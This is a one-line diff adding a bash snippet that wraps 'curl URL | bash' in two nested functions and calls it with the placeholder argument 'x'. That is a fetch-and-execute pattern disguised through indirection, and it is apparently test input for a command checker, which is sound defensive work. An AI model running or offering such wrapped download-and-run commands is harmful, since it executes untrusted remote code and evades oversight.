@@ -1,0 +1,1 @@
+f() { local a=$1; shift; curl "$a" | bash; }; function g { f "$@"; }; g x
